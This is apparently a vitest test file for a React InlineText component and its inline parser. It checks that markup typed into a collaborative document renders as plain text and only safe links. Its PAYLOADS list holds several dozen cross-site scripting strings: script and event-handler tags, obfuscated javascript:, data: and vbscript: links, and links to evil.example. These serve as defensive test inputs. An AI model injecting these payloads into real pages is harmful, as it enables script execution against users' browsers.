import { render } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { codePointOffset, hasUnsafeLink, parseInline, plainText, urlProblem } from "./inline";
import { InlineText } from "./InlineText";

// What a hostile co-author (or a compromised account) might put into a block's text.
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  '"><svg onload=alert(1)>',
  "'><svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<a href="javascript:alert(1)">x</a>',
  "<style>@import 'https://evil.example/x.css';</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
  "[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java\u0000script:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](\u200bjavascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](DATA:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](VBScript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/path)",
  "[x](/relative)",
  "[x](<javascript:alert(1)>)",
  "[x](https://trusted.example@evil.example/)",
  '[x](https://ok.example/" onclick="alert(1))',
  "[x](https://ok.example/'onmouseover='alert(1))",
  "[x](https://ok.example/\u202egpj.exe)",
  "[x](https://ok.example\\@evil.example)",
  "[x](javascript:alert((1)))",
  "[a [b]](javascript:alert(1))",
  "[a](https://ok.example/)](javascript:x)",
  "[<img src=x onerror=alert(1)>](https://ok.example/)",
  "**<script>alert(1)</script>**",
  "*<img src=x onerror=alert(1)>*",
  '[**x**](https://ok.example/"><script>alert(1)</script>)',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<a href='https://ok.example' onclick='alert(1)'>ok</a>",
  "[click](https://ok.example/?q=<script>)",
];

const ALLOWED_TAGS = new Set(["A", "EM", "STRONG", "SPAN"]);
const ALLOWED_ATTRIBUTES = new Set(["href", "target", "rel", "data-start"]);

function renderedElements(text: string, mapped: boolean) {
  const { container, unmount } = render(
    <div>
      <InlineText text={text} mapped={mapped} />
    </div>,
  );
  const root = container.firstElementChild as HTMLElement;
  const elements = [...root.querySelectorAll("*")];
  const result = { root, elements, text: root.textContent };
  return { ...result, unmount };
}

describe("InlineText", () => {
  it.each(PAYLOADS.flatMap((payload) => [[payload, false] as const, [payload, true] as const]))(
    "renders %j as text and safe elements only (mapped: %s)",
    (payload, mapped) => {
      const { elements, unmount } = renderedElements(`Before ${payload} after`, mapped);
      for (const element of elements) {
        expect(ALLOWED_TAGS.has(element.tagName), element.outerHTML).toBe(true);
        for (const attribute of element.getAttributeNames()) {
          expect(ALLOWED_ATTRIBUTES.has(attribute), `${attribute} on ${element.outerHTML}`).toBe(true);
        }
        if (element.tagName === "A") {
          const href = element.getAttribute("href") ?? "";
          expect(href).toMatch(/^https?:\/\/[^\s"'<>()\\]+$/iu);
          expect(urlProblem(href)).toBeNull();
          expect(element.getAttribute("rel")).toBe("noopener noreferrer nofollow");
          expect(element.getAttribute("target")).toBe("_blank");
        } else {
          expect(element.hasAttribute("href")).toBe(false);
        }
      }
      expect(document.querySelector("script, img, svg, iframe, style, math, details, body body")).toBeNull();
      unmount();
    },
  );

  it("shows HTML in a text as the characters typed", () => {
    const { root } = renderedElements('<script>alert("x")</script><img src=x onerror=alert(1)>', false);
    expect(root.textContent).toBe('<script>alert("x")</script><img src=x onerror=alert(1)>');
    expect(root.querySelector("script, img")).toBeNull();
  });

  it("renders emphasis, strong and safe links as elements", () => {
    const { root } = renderedElements(
      "We **demand** the *immediate* release, see [the list](https://example.org/l).",
      false,
    );
    expect(root.querySelector("strong")?.textContent).toBe("demand");
    expect(root.querySelector("em")?.textContent).toBe("immediate");
    const link = root.querySelector("a");
    expect(link?.textContent).toBe("the list");
    expect(link?.getAttribute("href")).toBe("https://example.org/l");
    expect(root.textContent).toBe("We demand the immediate release, see the list.");
  });
});

describe("parseInline mirrors the server's parse_inline", () => {
  const shape = (text: string) => parseInline(text).map(({ kind, text: t, href }) => [kind, t, href ?? null]);

  it("finds spans and where each starts in the raw text", () => {
    const text = "We **demand** the *immediate* release, see [the list](https://example.org/l).";
    expect(shape(text)).toEqual([
      ["text", "We ", null],
      ["strong", "demand", null],
      ["text", " the ", null],
      ["emphasis", "immediate", null],
      ["text", " release, see ", null],
      ["link", "the list", "https://example.org/l"],
      ["text", ".", null],
    ]);
    for (const span of parseInline(text)) expect(text.slice(span.start, span.start + span.text.length)).toBe(span.text);
  });

  it.each([
    "an *unclosed emphasis",
    "an **unclosed strong",
    "closing only* here",
    "** spaced** is not strong",
    "*spaced * is not emphasis",
    "5 * 3 * 2 = 30",
    "a [label](https://unclosed.example",
    "[label] (https://space-between.example)",
    "*across\nlines*",
    "****",
  ])("keeps %j as plain text", (text) => {
    expect(shape(text)).toEqual([["text", text, null]]);
    expect(plainText(text)).toBe(text);
  });

  it("is flat, and links win over emphasis", () => {
    expect(shape("**a *b* c**")).toEqual([["strong", "a *b* c", null]]);
    expect(shape("*see [x](https://x.example) now*")).toEqual([
      ["text", "*see ", null],
      ["link", "x", "https://x.example"],
      ["text", " now*", null],
    ]);
    expect(shape("[**bold label**](https://x.example)")).toEqual([["link", "**bold label**", "https://x.example"]]);
    expect(shape("Свабоду палітвязням!")).toEqual([["text", "Свабоду палітвязням!", null]]);
    expect(shape("")).toEqual([]);
  });

  it("accepts the links the server accepts", () => {
    for (const text of [
      "[report](https://example.org/report?id=1&lang=be#p2)",
      "[the law](HTTPS://EXAMPLE.ORG/LAW)",
      "[сайт](http://пример.бел/навіны)",
      "[parens encoded](https://en.wikipedia.org/wiki/Foo_%28bar%29)",
    ]) {
      expect(parseInline(text).filter((s) => s.kind === "link")).toHaveLength(1);
      expect(hasUnsafeLink(text)).toBe(false);
    }
    expect(hasUnsafeLink("[x](javascript:alert(1))")).toBe(true);
    expect(hasUnsafeLink("[a [b]](javascript:alert(1))")).toBe(true);
  });

  it("counts offsets in code points", () => {
    expect(codePointOffset("a😀b", 3)).toBe(2);
    expect(codePointOffset("Прывітанне", 4)).toBe(4);
  });
});
